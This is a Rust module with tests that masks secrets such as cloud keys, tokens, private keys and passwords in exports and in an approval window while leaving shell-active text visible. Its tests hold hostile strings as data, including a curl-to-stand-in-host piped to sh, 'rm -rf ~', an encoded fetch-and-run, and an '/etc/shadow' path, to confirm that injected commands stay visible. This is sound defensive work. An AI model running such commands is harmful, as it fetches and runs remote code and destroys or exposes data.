//! Secrets in texts: exports, the index of history and notifications leave them out, and the window covers them until somebody presses.
//!
//! Three ways to look like one: a known form (keys of services, tokens, private keys, passwords in addresses), a value behind a name that
//! says so, and letters and digits that nobody writes by hand. On top come the person's own patterns (`settings.masks`). One too many is
//! masked before one too few; what is missed is missed, so an export says that it masks by these ways and not that it holds no secret.
//!
//! What would run is another matter: there a cover must never hide what somebody approves. So the window covers less ([`Masks::covers`]):
//! single words that a shell does nothing with, of a known form or behind a name. A bare run of letters and digits stays, since a command
//! that was encoded looks the same; so does a path, an address, a number.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::ops::Range;
use std::sync::{Arc, LazyLock, PoisonError, RwLock};

use regex::{Captures, Regex, RegexBuilder};

/// What stands for a secret.
pub const MASK: &str = "••••••";

/// The shortest run of letters and digits that can be one by itself.
const SHORTEST: usize = 24;
/// The longest secret that the window covers, in bytes: what is longer is data, and is read.
pub(crate) const LONGEST: usize = 4_096;
/// How many bits a character of it carries at least, on average.
const BITS: f64 = 3.5;
/// How large a compiled pattern of the person's may be, in bytes.
const PATTERN_SIZE: usize = 1 << 20;

/// Known forms. A group named `keep` stays.
static FORMS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        r"-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?(?:-----END [A-Z ]*PRIVATE KEY-----|$)",
        r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b",
        r"\bgh[pousr]_[A-Za-z0-9]{20,}\b",
        r"\bgithub_pat_[A-Za-z0-9_]{20,}\b",
        r"\bglpat-[A-Za-z0-9_-]{16,}",
        r"\b(?:sk|pk|rk)[-_](?:[a-z]+[-_])*[A-Za-z0-9_-]{16,}",
        r"\bxox[abeoprs]-[A-Za-z0-9-]{10,}",
        r"\bAIza[0-9A-Za-z_-]{30,}",
        r"\bnpm_[A-Za-z0-9]{30,}\b",
        r"\beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}(?:\.[A-Za-z0-9_-]*)?",
        r"(?i)(?P<keep>\b(?:bearer|basic)\s+)[A-Za-z0-9+/=_.~-]{8,}",
        r"(?P<keep>[a-z][a-z0-9+.-]*://[^\s/:@]*:)[^\s/@]+@",
    ]
    .into_iter()
    .filter_map(|form| Regex::new(form).ok())
    .collect()
});

/// A value behind a name: `password=…`, `"api_key": "…"`, `--token …`.
static NAMED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?xi)(?P<keep> [a-z0-9_-]* (?:passw(?:or)?d | passphrase | secret | token | api[_-]?key | access[_-]?key |
        private[_-]?key | credential s? | auth(?:orization)?) [a-z0-9_-]* ["']? \s* (?: [:=] \s* | \s+ ) )
        (?P<value> "[^"]{3,}"? | '[^']{3,}'? | [^\s"',;&)}\]]{3,} )"#,
    )
    .ok()
});

/// Whether there is a name at all, which is looked for much faster.
static NAMES: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new("(?i)passw|passphrase|secret|token|api[_-]?key|access[_-]?key|private[_-]?key|credential|auth").ok()
});

/// What the window covers, as the settings say.
static IN_FORCE: LazyLock<RwLock<Arc<Masks>>> = LazyLock::new(|| RwLock::new(Arc::new(Masks::default())));

/// From now on the window covers what these patterns of the person's match, too. Says whether they are others than before.
pub(crate) fn enforce(own: &[String]) -> bool {
    let masks = Masks::new(own);
    let mut in_force = IN_FORCE.write().unwrap_or_else(PoisonError::into_inner);
    let written = |masks: &Masks| masks.own.iter().map(|one| one.as_str().to_owned()).collect::<Vec<_>>();
    let changed = written(&in_force) != written(&masks);
    if changed {
        *in_force = Arc::new(masks);
    }
    changed
}

/// What the window covers by.
pub(crate) fn in_force() -> Arc<Masks> {
    Arc::clone(&IN_FORCE.read().unwrap_or_else(PoisonError::into_inner))
}

/// What the window covers in a text: stretches of it, in order.
pub(crate) fn covers(text: &str) -> Vec<Range<usize>> {
    in_force().covers(text)
}

/// Whether all of a value is covered because of its name.
pub(crate) fn covers_value(name: &str, value: &str) -> bool {
    super::question::looks_secret(name) && is_secret_word(value.replace(' ', "").as_str())
}

/// Letters and digits of one word.
static RUNS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"[A-Za-z0-9+=_-]{24,}").ok());

/// What hides secrets, with the person's own patterns compiled.
#[derive(Debug, Default)]
pub struct Masks {
    own: Vec<Regex>,
    faulty: Vec<String>,
    off: bool,
}

impl Masks {
    /// With the person's own patterns. One that isn't a regular expression masks nothing and is among [`Masks::faulty`].
    pub fn new(own: &[String]) -> Self {
        let mut masks = Self::default();
        for pattern in own.iter().filter(|pattern| !pattern.trim().is_empty()) {
            match RegexBuilder::new(pattern).size_limit(PATTERN_SIZE).build() {
                Ok(compiled) => masks.own.push(compiled),
                Err(_) => masks.faulty.push(pattern.clone()),
            }
        }
        masks
    }

    /// What hides nothing, for a person who wants to see everything.
    pub fn unmasked() -> Self {
        Self { off: true, ..Self::default() }
    }

    /// Whether the value behind a name is hidden because of the name.
    pub fn hides_named(&self, name: &str) -> bool {
        !self.off && super::question::looks_secret(name)
    }

    /// Patterns of the person's that can't be read.
    pub fn faulty(&self) -> &[String] {
        &self.faulty
    }

    /// What the window covers: less than [`Masks::hide`] hides, as the module says. Stretches of the text, in order; none of them holds a
    /// hidden character. It takes time in proportion to the text's length.
    pub fn covers(&self, text: &str) -> Vec<Range<usize>> {
        let mut found = Vec::new();
        let mut add = |range: Range<usize>, is: fn(&str) -> bool| {
            if text.get(range.clone()).is_some_and(is) {
                found.push(range);
            }
        };
        for (form, is_key) in FORMS.iter().zip(std::iter::once(true).chain(std::iter::repeat(false))) {
            for one in form.captures_iter(text) {
                let Some(all) = one.get(0) else { continue };
                let from = one.name("keep").map_or(all.start(), |keep| keep.end());
                let to = all.end() - usize::from(all.as_str().ends_with('@'));
                add(from..to, if is_key { is_key_block } else { is_secret_word });
            }
        }
        if let (Some(names), Some(named)) = (NAMES.as_ref(), NAMED.as_ref())
            && names.is_match(text)
        {
            for one in named.captures_iter(text) {
                let (Some(keep), Some(value)) = (one.name("keep"), one.name("value")) else { continue };
                let assigned = keep.as_str().contains(['=', ':']);
                let quotes = |letter: char| matches!(letter, '"' | '\'');
                let inner = value.as_str().trim_matches(quotes);
                let from = value.start() + value.as_str().len() - value.as_str().trim_start_matches(quotes).len();
                if names_something_secret(inner, assigned) {
                    add(from..from + inner.len(), is_secret_word);
                }
            }
        }
        for own in &self.own {
            for one in own.find_iter(text) {
                add(one.range(), |text| !text.is_empty() && text.chars().all(|one| one == ' ' || is_harmless(one)));
            }
        }
        found.sort_by_key(|range| (range.start, std::cmp::Reverse(range.end)));
        let mut end = 0;
        found.retain(|range| {
            let is_apart = range.start >= end;
            end = end.max(range.end);
            is_apart
        });
        found
    }

    /// A text with everything that looks like a secret hidden. It takes time in proportion to its length.
    pub fn hide(&self, text: &str) -> String {
        if self.off {
            return text.to_owned();
        }
        let mut hidden = Cow::Borrowed(text);
        for form in FORMS.iter() {
            hidden = replaced(hidden, form, |found| {
                let keep = found.name("keep").map_or("", |keep| keep.as_str());
                let at = if found.get(0).is_some_and(|all| all.as_str().ends_with('@')) { "@" } else { "" };
                format!("{keep}{MASK}{at}")
            });
        }
        if let Some(named) = NAMED.as_ref() {
            hidden = replaced(hidden, named, |found| {
                let (keep, value) = (part(found, "keep"), part(found, "value"));
                // Words behind such a name are a sentence and no secret, unless something assigns them.
                let assigned = keep.contains(['=', ':']);
                let written = value.chars().all(|letter| letter.is_alphabetic() || letter == '.');
                let scheme = ["bearer", "basic"].iter().any(|scheme| value.eq_ignore_ascii_case(scheme));
                if value.contains(MASK) || scheme || (!assigned && written) || (!assigned && value.starts_with('-')) {
                    format!("{keep}{value}")
                } else {
                    let open = value.chars().next().filter(|first| matches!(first, '"' | '\''));
                    let quote = open.map(String::from).unwrap_or_default();
                    let close = if open.is_some_and(|quote| value.ends_with(quote)) { quote.as_str() } else { "" };
                    format!("{keep}{quote}{MASK}{close}")
                }
            });
        }
        if let Some(runs) = RUNS.as_ref() {
            hidden = replaced(hidden, runs, |found| {
                let run = found.get(0).map_or("", |run| run.as_str());
                if nobody_writes(run) { MASK.to_owned() } else { run.to_owned() }
            });
        }
        for own in &self.own {
            hidden = replaced(hidden, own, |found| {
                let is_empty = found.get(0).is_none_or(|all| all.is_empty());
                if is_empty { String::new() } else { MASK.to_owned() }
            });
        }
        hidden.into_owned()
    }
}

/// Whether a value behind a name is its secret, and not a sentence, a switch, a number, a place or a scheme before the secret.
fn names_something_secret(value: &str, assigned: bool) -> bool {
    let is_word = value.chars().all(|letter| letter.is_alphabetic() || letter == '.');
    let is_number = value.chars().all(|letter| letter.is_ascii_digit() || letter == '.');
    let is_place = value.starts_with(['/', '~', '.']) || value.contains("://");
    let says_nothing = ["bearer", "basic", "true", "false", "null", "none", "undefined"];
    let is_fixed = says_nothing.iter().any(|one| value.eq_ignore_ascii_case(one));
    !(is_number || is_place || is_fixed || (!assigned && (is_word || value.starts_with('-'))))
}

/// What a shell, a query and a script do nothing with, and what neither is nor stands for a hidden character.
fn is_harmless(letter: char) -> bool {
    letter.is_ascii_alphanumeric() || "+/=_.~-@^!#:,".contains(letter)
}

/// Whether a text can be a secret of one word and nothing else.
fn is_secret_word(text: &str) -> bool {
    text.len() >= 3 && text.len() <= LONGEST && text.chars().all(is_harmless)
}

/// Whether a text is a private key from its first line to its last, also as JSON writes it.
fn is_key_block(text: &str) -> bool {
    text.len() <= LONGEST
        && text.contains("-----END")
        && text.chars().all(|one| is_harmless(one) || matches!(one, ' ' | '\n' | '\r' | '\\'))
}

fn part<'a>(found: &'a Captures<'_>, name: &str) -> &'a str {
    found.name(name).map_or("", |part| part.as_str())
}

fn replaced<'a>(text: Cow<'a, str>, pattern: &Regex, with: impl Fn(&Captures<'_>) -> String) -> Cow<'a, str> {
    if !pattern.is_match(&text) {
        return text;
    }
    Cow::Owned(pattern.replace_all(&text, |found: &Captures<'_>| with(found)).into_owned())
}

/// Whether a run of letters and digits is one that only a machine writes: small and big letters and digits mixed, or long hexadecimal
/// text. Forty hexadecimal digits are a commit's name, which is searched for and told on.
fn nobody_writes(run: &str) -> bool {
    let digits = run.bytes().filter(u8::is_ascii_digit).count();
    let hexadecimal = run.bytes().all(|byte| byte.is_ascii_hexdigit());
    if hexadecimal {
        return run.len() >= 32 && run.len() != 40 && digits > 0 && digits < run.len();
    }
    let has = |test: fn(&u8) -> bool| run.bytes().any(|byte| test(&byte));
    run.len() >= SHORTEST
        && digits >= 2
        && has(u8::is_ascii_uppercase)
        && has(u8::is_ascii_lowercase)
        && bits(run) >= BITS
}

fn bits(run: &str) -> f64 {
    let mut counts: BTreeMap<u8, u32> = BTreeMap::new();
    for byte in run.bytes() {
        *counts.entry(byte).or_default() += 1;
    }
    let all = f64::from(u32::try_from(run.len()).unwrap_or(u32::MAX));
    counts.values().map(|count| f64::from(*count) / all).map(|part| -part * part.log2()).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_looks_like_a_secret_is_hidden_and_the_rest_stays() {
        let masks = Masks::default();
        for (text, shown) in [
            ("export AWS_KEY=AKIAIOSFODNN7EXAMPLE", "export AWS_KEY=••••••"),
            ("git clone https://me:hunter22@example.com/x", "git clone https://me:••••••@example.com/x"),
            ("Authorization: Bearer abcdef123456", "Authorization: Bearer ••••••"),
            ("{\"password\": \"open sesame\"}", "{\"password\": \"••••••\"}"),
            ("curl --token 9f8e7d6c x", "curl --token •••••• x"),
            ("ghp_abcdefghijklmnopqrst0123", "••••••"),
            ("k = Zx81mQp02LkVt7RbY4nEwA9s", "k = ••••••"),
            ("a1b2c3d4e5f60718293a4b5c6d7e8f90", "••••••"),
            ("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nafter", "••••••\nafter"),
        ] {
            assert_eq!(masks.hide(text), shown, "{text}");
        }
        for text in [
            "git push --force origin main",
            "commit 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12",
            "the token is missing",
            "a-very-long-name-with-many-parts-and-no-secret",
            "/home/me/projects/countersign/src-tauri/crates/store",
            "tokens: 12",
        ] {
            assert_eq!(masks.hide(text), text);
        }
    }

    #[test]
    fn the_window_covers_secrets_and_nothing_that_does_something() {
        let masks = Masks::new(&["CUST-[^;]+".to_owned()]);
        let covered = |text: &str| -> String {
            let mut shown = String::new();
            let mut at = 0;
            for range in masks.covers(text) {
                shown.push_str(&text[at..range.start]);
                shown.push_str(MASK);
                at = range.end;
            }
            shown + &text[at..]
        };
        for (text, shown) in [
            ("export AWS_KEY=AKIAIOSFODNN7EXAMPLE", "export AWS_KEY=••••••"),
            ("git clone https://me:hunter22@example.com/x", "git clone https://me:••••••@example.com/x"),
            ("curl -H 'Authorization: Bearer abcdef123456'", "curl -H 'Authorization: Bearer ••••••'"),
            ("{\"password\": \"hunter!2\", \"a\": 1}", "{\"password\": \"••••••\", \"a\": 1}"),
            ("curl --token 9f8e7d6c x", "curl --token •••••• x"),
            ("DB_PASSWORD=hunter psql", "DB_PASSWORD=•••••• psql"),
            ("call CUST-4711 today; rm", "call ••••••; rm"),
            ("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nafter", "••••••\nafter"),
        ] {
            assert_eq!(covered(text), shown, "{text}");
        }
        // What does something is read, whatever name stands before it, and so is what may be an encoded command.
        for text in [
            "TOKEN=$(curl evil.example|sh) true",
            "password=\"x; rm -rf ~\"",
            "password=`id`",
            "-----BEGIN RSA PRIVATE KEY-----\n$(rm -rf ~)\n-----END RSA PRIVATE KEY-----",
            "-----BEGIN RSA PRIVATE KEY----- && rm -rf ~",
            "echo Y3VybCBldmlsLmV4YW1wbGUvYnwvYmluL3No | base64 -d | sh",
            "https://me:$(id)@example.com",
            "https://example.com/?token=%E2%80%AEabc",
            "call CUST-1 | sh",
            "--auth-file=/etc/shadow",
            "max_tokens=4096 use_token: true",
            "the token is missing",
            "token: \u{202E}abc",
            "git push --force origin main",
        ] {
            assert_eq!(covered(text), text);
        }
        let long = format!("token={}", "a1".repeat(LONGEST));
        assert_eq!(covered(&long), long, "what is that long is data");
    }

    #[test]
    fn the_persons_own_patterns_count_and_a_faulty_one_is_named() {
        let own = ["CUST-[0-9]+".to_owned(), "(".to_owned(), "x*".to_owned()];
        let masks = Masks::new(&own);
        assert_eq!(masks.faulty(), ["("]);
        assert_eq!(masks.hide("call CUST-4711 today"), "call •••••• today");
    }
}
